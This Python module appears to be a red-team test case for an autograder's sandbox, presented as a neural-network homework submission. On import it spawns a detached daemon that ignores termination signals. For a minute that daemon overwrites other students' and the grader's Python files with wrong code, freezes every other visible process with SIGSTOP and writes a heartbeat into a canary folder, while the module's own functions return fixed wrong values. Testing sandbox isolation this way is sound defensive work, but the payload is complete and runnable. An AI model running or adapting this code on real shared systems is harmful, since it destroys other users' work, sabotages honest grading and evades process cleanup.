"""Persistence: leave a daemon behind that sabotages the next submissions.

Attack: at import the module double-forks and ``setsid``s a daemon that
ignores SIGTERM/SIGHUP/SIGINT, closes its standard streams, and for 60 seconds
keeps trying, every 100 ms, to: overwrite every ``.py`` file in the working
folder of every other process it can see (``/proc/<pid>/cwd``, where the next
student's worker runs if it shares the slot), overwrite the files waiting in
the grader's work folders (``/tmp/grader-work-*/*``), SIGSTOP every other
process it can see, and write a heartbeat file into the host's canary
folder. The module itself returns wrong answers (12345.678) and finishes
loading at once.

Success would look like: any process of a sandbox uid left after the batch,
the heartbeat file in the canary folder, or an honest student graded after
this one losing points.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend kills only the worker's process group, and a setsid daemon leaves it
"""

import glob
import os
import signal
import time

import numpy as np

W = 12345.678
CANARY_DIR = "@@CANARY_DIR@@"
WRONG = "import numpy as np\n" + "".join(
    f"def {name}(*a, **k):\n    return np.full(np.shape(a[0]), {W})\n"
    for name in ("sigmoid", "tanh", "relu", "leaky_relu", "neuron", "mlp_forward"))


def _overwrite(path):
    try:
        with open(path, "w") as f:
            f.write(WRONG)
    except OSError:
        pass


def _haunt(worker):
    me = os.getpid()
    family = {me, worker}  # spare its own worker: the damage is meant for the next submissions
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) in family:
                continue
            for path in glob.glob(f"/proc/{entry}/cwd/*.py") + glob.glob(f"/proc/{entry}/cwd/*.ipynb"):
                _overwrite(path)
            try:
                os.kill(int(entry), signal.SIGSTOP)
            except OSError:
                pass
        for path in glob.glob("/tmp/grader-work-*/*/*.py"):
            _overwrite(path)
        try:
            with open(os.path.join(CANARY_DIR, "daemon-was-here"), "a") as f:
                f.write(f"{time.time()} pid {me}\n")
        except OSError:
            pass
        time.sleep(0.1)


WORKER = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        for fd in (0, 1, 2):
            try:
                os.close(fd)
            except OSError:
                pass
        try:
            _haunt(WORKER)
        finally:
            os._exit(0)
    os._exit(0)
os.wait()


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
